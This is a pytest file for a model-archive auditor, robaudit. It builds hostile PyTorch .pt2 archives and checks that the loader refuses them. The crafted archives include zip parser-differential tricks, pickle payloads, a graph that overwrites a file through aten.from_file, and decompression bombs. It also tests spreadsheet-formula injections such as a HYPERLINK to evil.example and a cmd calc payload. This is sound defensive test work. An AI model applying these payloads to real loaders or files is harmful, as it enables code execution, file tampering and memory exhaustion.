"""Hostile ``.pt2`` archives, round two: what torch reads is what robaudit inspected.

Zip tricks that make Python's ``zipfile`` and torch's reader see different members, graphs whose
"allowed" ATen operators read or write files or write into the caller's tensors, decompression
bombs, deep JSON, module class names that are not names, and seeded fuzzing of a real archive.
Each refusal is one line, nothing from the file runs, no byte outside the test's folder changes.
"""
from __future__ import annotations

import json
import pickle
import random
import tracemalloc
import zlib
from pathlib import Path

import pytest
import torch
from torch import nn

from tests.helpers import NUM_CLASSES, export_dynamic
from tests.helpers import single_thread  # noqa: F401  (autouse fixture)
from tests.test_hostile import Payload, clean_pt2, marker  # noqa: F401  (fixtures shared with round one)
from tests.zipcraft import Entry, build_zip, read_members
from robaudit.archive import UnsafeArchiveError
from robaudit.errors import RobauditError
from robaudit.models import check_compatible, load_model

MiB = 1 << 20


def members_of(path: Path) -> tuple[bytes, list[tuple[bytes, bytes]]]:
    """The archive's root folder (with its slash) and its (name, data) members in order."""
    members = read_members(path.read_bytes())
    return members[0][0].split(b"/", 1)[0] + b"/", members


def refused(path: Path, needle: str, exc=UnsafeArchiveError) -> str:
    with pytest.raises(exc) as info:
        load_model(path)
    message = str(info.value)
    assert needle.lower() in message.lower(), message
    assert len(message.splitlines()) == 1
    return message


def pickled(marker: Path) -> bytes:
    return pickle.dumps(Payload(marker), protocol=2)


# -- 1. the inspector and torch read the same members -----------------------------------------------
def _duplicate_sample_inputs(root, members, marker):
    """A pickle payload first, the clean member last: zipfile reads the last, miniz may read the first."""
    name = root + b"data/sample_inputs/model.pt"
    clean = dict(members)[name]
    rest = [Entry(n, d) for n, d in members if n != name]
    return [Entry(name, pickled(marker))] + rest + [Entry(name, clean)]


def _nul_in_a_name(root, members, marker):
    """A payload config under the real name and the clean one under ``...json\\0Z``, which zipfile cuts."""
    name = root + b"data/weights/model_weights_config.json"
    config = json.loads(dict(members)[name])
    first = next(iter(config["config"]))
    evil = json.loads(json.dumps(config))
    evil["config"][first]["use_pickle"] = True
    out = [Entry(n, d) for n, d in members if n != name]
    return out + [Entry(name, json.dumps(evil).encode()), Entry(name + b"\x00Z", dict(members)[name])]


def _names_differing_in_case(root, members, marker):
    name = root + b"data/sample_inputs/model.pt"
    return [Entry(n, d) for n, d in members] + [Entry(root + b"data/sample_inputs/MODEL.pt", pickled(marker))]


def _local_header_names_another_member(root, members, marker):
    entries = [Entry(n, d) for n, d in members]
    entries[0].local_name = entries[0].name[:-1] + b"X"
    return entries


def _encrypted(root, members, marker):
    entries = [Entry(n, d) for n, d in members]
    entries[0].flags = 0x1
    return entries


def _bzip2(root, members, marker):
    entries = [Entry(n, d) for n, d in members]
    entries[0].method = 12
    return entries


def _dot_dot(root, members, marker):
    return [Entry(n, d) for n, d in members] + [Entry(root + b"data/../../evil.json", b"{}")]


ZIP_TRICKS = {
    "a member twice, payload first": (_duplicate_sample_inputs, "appears twice"),
    "a NUL byte in a name": (_nul_in_a_name, "NUL or control byte"),
    "two names that differ only in case": (_names_differing_in_case, "differ only in case"),
    "a local header naming another member": (_local_header_names_another_member, "local header"),
    "an encrypted member": (_encrypted, "encrypted"),
    "a compression method torch does not read": (_bzip2, "compression method 12"),
    "a '..' in a name": (_dot_dot, "plain relative path"),
}


@pytest.mark.parametrize("case", list(ZIP_TRICKS))
def test_zip_tricks_that_make_readers_disagree_are_refused(case, clean_pt2, tmp_path, marker):
    make, needle = ZIP_TRICKS[case]
    root, members = members_of(clean_pt2)
    path = tmp_path / "evil.pt2"
    path.write_bytes(build_zip(make(root, members, marker)))
    message = refused(path, needle)
    assert "--trust-model" in message
    assert not marker.exists(), "code from the archive ran"


def test_the_duplicate_member_really_runs_when_trusted(clean_pt2, tmp_path, marker):
    """torch itself reads the payload that zipfile would hide: the archive above is really hostile."""
    root, members = members_of(clean_pt2)
    path = tmp_path / "evil.pt2"
    path.write_bytes(build_zip(_duplicate_sample_inputs(root, members, marker)))
    try:
        load_model(path, trust_model=True)
    except Exception:
        pass
    assert marker.exists()


def test_bytes_before_the_archive_are_refused(clean_pt2, tmp_path):
    """zipfile shifts every offset by data prepended to an archive; torch's reader does not."""
    root, members = members_of(clean_pt2)
    path = tmp_path / "shifted.pt2"
    path.write_bytes(b"#!/bin/sh\n" * 10 + build_zip([Entry(n, d) for n, d in members]))
    refused(path, "central directory")


def test_torch_reads_exactly_the_checked_file(clean_pt2, tmp_path, monkeypatch):
    """The archive is opened once: torch is handed the file object that was inspected, not the path."""
    seen = []
    real = torch.export.load
    monkeypatch.setattr(torch.export, "load", lambda f, **kw: seen.append(f) or real(f, **kw))
    load_model(clean_pt2)
    assert len(seen) == 1 and hasattr(seen[0], "read") and not isinstance(seen[0], (str, Path))


# -- 2. the allowed operators compute; they do no I/O and write only the graph's own tensors ----------
def rebuild(src: Path, dst: Path, edit) -> Path:
    """``src`` with ``edit(program)`` applied to models/model.json, written as torch writes it (stored)."""
    root, members = members_of(src)
    out = []
    for name, data in members:
        if name == root + b"models/model.json":
            doc = json.loads(data)
            edit(doc)
            data = json.dumps(doc).encode()
        out.append(Entry(name, data))
    dst.write_bytes(build_zip(out))
    return dst


def _node(graph, target, inputs, out):
    """A serialized node calling ``target``; ``dtype`` is keyword-only (kind 2), the rest positional."""
    meta = dict(graph["nodes"][0]["metadata"])
    return {"target": target, "inputs": [{"name": k, "arg": v, "kind": 2 if k == "dtype" else 1} for k, v in inputs],
            "outputs": [{"as_tensor": {"name": out}}], "metadata": meta, "is_hop_single_tensor_return": None,
            "name": out}


def _byte_tensor_meta(graph):
    meta = json.loads(json.dumps(next(iter(graph["tensor_values"].values()))))
    meta.update(dtype=1, sizes=[{"as_int": 16}], strides=[{"as_int": 1}], requires_grad=False)
    return meta


def _from_file_then_copy(victim: Path):
    """``t = aten.from_file(victim, shared=True)``, then ``t.copy_(66s)``: rewrites the victim file."""
    def edit(doc):
        g = doc["graph_module"]["graph"]
        for name in ("ff", "src", "cp"):
            g["tensor_values"][name] = _byte_tensor_meta(g)
        g["nodes"][:0] = [
            _node(g, "torch.ops.aten.from_file.default", [
                ("filename", {"as_string": str(victim)}), ("shared", {"as_bool": True}), ("size", {"as_int": 16}),
                ("dtype", {"as_scalar_type": 1})], "ff"),
            _node(g, "torch.ops.aten.full.default", [
                ("size", {"as_ints": [16]}), ("fill_value", {"as_int": 66}), ("dtype", {"as_scalar_type": 1})], "src"),
            _node(g, "torch.ops.aten.copy_.default", [
                ("self", {"as_tensor": {"name": "ff"}}), ("src", {"as_tensor": {"name": "src"}})], "cp"),
        ]
    return edit


def test_from_file_in_a_graph_is_refused_and_would_write_the_file(clean_pt2, tmp_path):
    victim = tmp_path / "victim.py"
    victim.write_bytes(b"A" * 16)
    path = rebuild(clean_pt2, tmp_path / "evil.pt2", _from_file_then_copy(victim))
    message = refused(path, "aten.from_file")
    assert "outside the graph" in message
    assert victim.read_bytes() == b"A" * 16
    # proof that the graph really does I/O: trusted, one forward pass rewrites the victim
    loaded = load_model(path, trust_model=True)
    loaded.module(torch.rand(2, 1, 8, 8))
    assert victim.read_bytes() == b"B" * 16


def test_a_literal_allocation_bomb_is_refused(clean_pt2, tmp_path):
    """``aten.zeros([2**20, 2**20])`` would ask for 4 TB at the first forward pass."""
    def edit(doc):
        g = doc["graph_module"]["graph"]
        g["tensor_values"]["big"] = _byte_tensor_meta(g)
        g["nodes"].insert(0, _node(g, "torch.ops.aten.zeros.default", [("size", {"as_ints": [2**20, 2**20]})], "big"))
    message = refused(rebuild(clean_pt2, tmp_path / "evil.pt2", edit), "elements")
    assert "exhaust memory" in message


class InPlace(nn.Module):
    """In-place writes that torch.export keeps: into an intermediate (``relu_``) and into a buffer."""

    def __init__(self) -> None:
        super().__init__()
        self.lin = nn.Linear(3, 3)
        self.register_buffer("count", torch.zeros(3))

    def forward(self, x):
        y = torch.relu(self.lin(x))
        y.relu_()
        self.count.add_(1)
        return y + self.count


@pytest.fixture(scope="module")
def in_place_pt2(tmp_path_factory):
    return export_dynamic(InPlace(), tmp_path_factory.mktemp("inplace") / "inplace.pt2", torch.rand(2, 3))


def _write_into(name: str, via_view: bool = False):
    """The ``relu_`` node writes into ``name`` (a graph input) instead of its intermediate."""
    def edit(doc):
        g = doc["graph_module"]["graph"]
        node = next(n for n in g["nodes"] if n["target"] == "torch.ops.aten.relu_.default")
        target = name
        if via_view:
            g["tensor_values"]["v"] = g["tensor_values"][name] if name in g["tensor_values"] else \
                next(iter(g["tensor_values"].values()))
            g["nodes"].insert(0, _node(g, "torch.ops.aten.view.default", [
                ("self", {"as_tensor": {"name": name}}), ("size", {"as_ints": [-1]})], "v"))
            target = "v"
        node["inputs"][0]["arg"] = {"as_tensor": {"name": target}}
    return edit


@pytest.mark.parametrize("where, needle", [
    ("x", "user input"), ("p_lin_weight", "parameter"), ("x@view", "user input")])
def test_in_place_writes_into_the_callers_tensors_are_refused(in_place_pt2, tmp_path, where, needle):
    name, _, view = where.partition("@")
    path = rebuild(in_place_pt2, tmp_path / "evil.pt2", _write_into(name, via_view=bool(view)))
    message = refused(path, "writes in place into " + needle)
    assert "aten.relu_" in message


def test_in_place_writes_into_the_graphs_own_tensors_load(in_place_pt2):
    loaded = load_model(in_place_pt2)
    assert loaded.module(torch.rand(4, 3)).shape == (4, 3)


# -- 3. decompression bombs: sizes are checked before anything inflates --------------------------------
def _deflated_stream(head: bytes, filler: bytes, n_chunks: int) -> tuple[bytes, int, int]:
    """(deflated bytes, size, crc) of head + filler * n_chunks, built a chunk at a time."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = [c.compress(head)], zlib.crc32(head), len(head)
    for _ in range(n_chunks):
        out.append(c.compress(filler))
        crc, size = zlib.crc32(filler, crc), size + len(filler)
    out.append(c.flush())
    return b"".join(out), size, crc


def _bomb(root, members, what):
    program = root + b"models/model.json"
    entries = [Entry(n, d) for n, d in members]
    if what == "program":  # valid JSON padded with 80 MB of whitespace
        body = dict(members)[program]
        comp, size, crc = _deflated_stream(body, b" " * MiB, 80)
        return [e if e.name != program else Entry(program, method=8, comp=comp, size=size, crc=crc) for e in entries]
    if what == "program that lies":  # declares its real size, inflates to 80 MB more
        body = dict(members)[program]
        comp, _, _ = _deflated_stream(body, b" " * MiB, 80)
        return [e if e.name != program else Entry(program, data=body, method=8, comp=comp) for e in entries]
    weight = root + b"data/weights/weight_0"
    if what == "weight":  # a weight member declaring 1.5 GB where its tensor needs a few hundred bytes
        return [e if e.name != weight else Entry(weight, method=8, comp=deflate_zeros(), size=1536 * MiB, crc=0)
                for e in entries]
    raise AssertionError(what)


def deflate_zeros() -> bytes:
    return zlib.compressobj(9, zlib.DEFLATED, -15).compress(bytes(MiB)) + b"\x03\x00"


def _huge_tensor_meta(root, members):
    """The metadata claims a 1.5 GB weight backed by a deflated member that would inflate to it."""
    name = root + b"data/weights/model_weights_config.json"
    config = json.loads(dict(members)[name])
    entry = next(v for v in config["config"].values() if v["path_name"] == "weight_0")
    entry["tensor_meta"]["sizes"] = [{"as_int": 384 * MiB}]
    entry["tensor_meta"]["strides"] = [{"as_int": 1}]
    weight = root + b"data/weights/weight_0"
    out = []
    for n, d in members:
        if n == name:
            out.append(Entry(n, json.dumps(config).encode()))
        elif n == weight:
            out.append(Entry(n, method=8, comp=deflate_zeros(), size=1536 * MiB, crc=0))
        else:
            out.append(Entry(n, d))
    return out


def _empty_member_for_a_huge_tensor(root, members):
    """torch makes zeros of the metadata's size for an empty member: 1.5 GB from nothing."""
    out = _huge_tensor_meta(root, members)
    for e in out:
        if e.name == root + b"data/weights/weight_0":
            e.comp, e.size, e.method, e.crc = b"", 0, 0, 0
    return out


@pytest.mark.parametrize("case, needle", [
    ("program", "declares"), ("program that lies", "inflates to more than"), ("weight", "declares"),
    ("huge tensor meta", "inflates"), ("empty member", "holds 0 bytes")])
def test_decompression_bombs_are_refused_in_little_memory(case, needle, clean_pt2, tmp_path):
    root, members = members_of(clean_pt2)
    if case == "huge tensor meta":
        entries = _huge_tensor_meta(root, members)
    elif case == "empty member":
        entries = _empty_member_for_a_huge_tensor(root, members)
    else:
        entries = _bomb(root, members, case)
    path = tmp_path / "bomb.pt2"
    path.write_bytes(build_zip(entries))
    del entries
    tracemalloc.start()
    try:
        with pytest.raises(RobauditError) as info:
            load_model(path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert needle in str(info.value) and len(str(info.value).splitlines()) == 1
    assert peak < 200 * MiB, f"peak {peak / MiB:.0f} MB"


# -- 4. deep JSON and 5. names that become table cells ------------------------------------------------
@pytest.mark.parametrize("member", ["models/model.json", "data/weights/model_weights_config.json"])
def test_deep_json_in_an_archive_is_one_line(member, clean_pt2, tmp_path):
    root, members = members_of(clean_pt2)
    deep = b"[" * 200_000 + b"]" * 200_000
    path = tmp_path / "deep.pt2"
    path.write_bytes(build_zip([Entry(n, deep if n == root + member.encode() else d) for n, d in members]))
    refused(path, "nests deeper", exc=RobauditError)


@pytest.mark.parametrize("cls", ['=HYPERLINK("http://evil.example/?leak")', "=cmd|' /C calc'!A0",
                                 "torch.nn.Conv2d\x1b[31m", "torch.nn.Conv2d\rX"])
def test_module_class_names_must_be_plain_dotted_identifiers(cls, clean_pt2, tmp_path):
    def edit(doc):
        node = doc["graph_module"]["graph"]["nodes"][0]
        stack = node["metadata"]["nn_module_stack"].split(";")
        key, path, _ = stack[-1].split(",")
        node["metadata"]["nn_module_stack"] = ";".join(stack[:-1] + [f"{key},{path},{cls}"])
    message = refused(rebuild(clean_pt2, tmp_path / "evil.pt2", edit), "module class")
    assert "\x1b" not in message and "\r" not in message


# -- 6. fuzzing: every outcome is a loaded model or one line ------------------------------------------
def _mutate_bytes(data: bytes, rng: random.Random) -> bytes:
    b = bytearray(data)
    kind = rng.choice(["flip", "truncate", "insert", "zero"])
    if kind == "flip":
        for _ in range(rng.randint(1, 8)):
            i = rng.randrange(len(b))
            b[i] ^= 1 << rng.randrange(8)
    elif kind == "truncate":
        del b[rng.randrange(len(b)):]
    elif kind == "insert":
        i = rng.randrange(len(b))
        b[i:i] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
    else:
        i = rng.randrange(len(b))
        b[i:i + rng.randint(1, 64)] = bytes(min(64, len(b) - i))
    return bytes(b)


_ODD_VALUES = [None, -1, 0, 2**63, 1e308, "", "x" * 300, "=1+1", "\x1b[2J", [], {}, [[[]]], True, "a.b.c",
               "torch.ops.aten.from_file.default", "__import__('os')"]


def _mutate_json(doc, rng: random.Random):
    """Replace one value somewhere in the tree (or drop a key) with an odd one."""
    nodes = []
    stack = [doc]
    while stack:
        v = stack.pop()
        if isinstance(v, dict) and v:
            nodes.append(v)
            stack.extend(v.values())
        elif isinstance(v, list) and v:
            nodes.append(v)
            stack.extend(v)
    target = rng.choice(nodes)
    if isinstance(target, dict):
        key = rng.choice(list(target))
        if rng.random() < 0.2:
            del target[key]
        else:
            target[key] = rng.choice(_ODD_VALUES)
    else:
        target[rng.randrange(len(target))] = rng.choice(_ODD_VALUES)
    return doc


def _mutate_archive(root, members, rng: random.Random) -> bytes:
    kind = rng.choice(["bytes", "bytes", "json", "json", "json", "swap", "drop", "duplicate"])
    entries = [Entry(n, d) for n, d in members]
    if kind == "bytes":
        return _mutate_bytes(build_zip(entries), rng)
    if kind == "json":
        jsons = [e for e in entries if e.name.endswith(b".json")]
        e = rng.choice(jsons)
        e.data = json.dumps(_mutate_json(json.loads(e.data), rng)).encode()
    elif kind == "swap":
        i, j = rng.randrange(len(entries)), rng.randrange(len(entries))
        entries[i].data, entries[j].data = entries[j].data, entries[i].data
    elif kind == "drop":
        entries.pop(rng.randrange(len(entries)))
    else:
        entries.append(Entry(rng.choice(entries).name, b"{}"))
    return build_zip(entries)


def test_fuzzed_archives_load_or_are_refused_in_one_line(clean_pt2, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    root, members = members_of(clean_pt2)
    rng = random.Random(2126)
    outcomes = {"loaded": 0, "refused": 0}
    before = sorted(p.name for p in tmp_path.iterdir())
    for case in range(200):
        path = tmp_path / f"fuzz{case % 4}.pt2"
        path.write_bytes(_mutate_archive(root, members, rng))
        try:
            loaded = load_model(path)
            check_compatible(loaded.module, torch.rand(2, 1, 8, 8), NUM_CLASSES)
            outcomes["loaded"] += 1
        except RobauditError as e:
            assert len(str(e).splitlines()) == 1 and "unexpected" not in str(e), (case, str(e))
            outcomes["refused"] += 1
    assert outcomes["refused"] > 50 and outcomes["loaded"] > 5, outcomes
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(set(before) | {f"fuzz{i}.pt2" for i in range(4)})
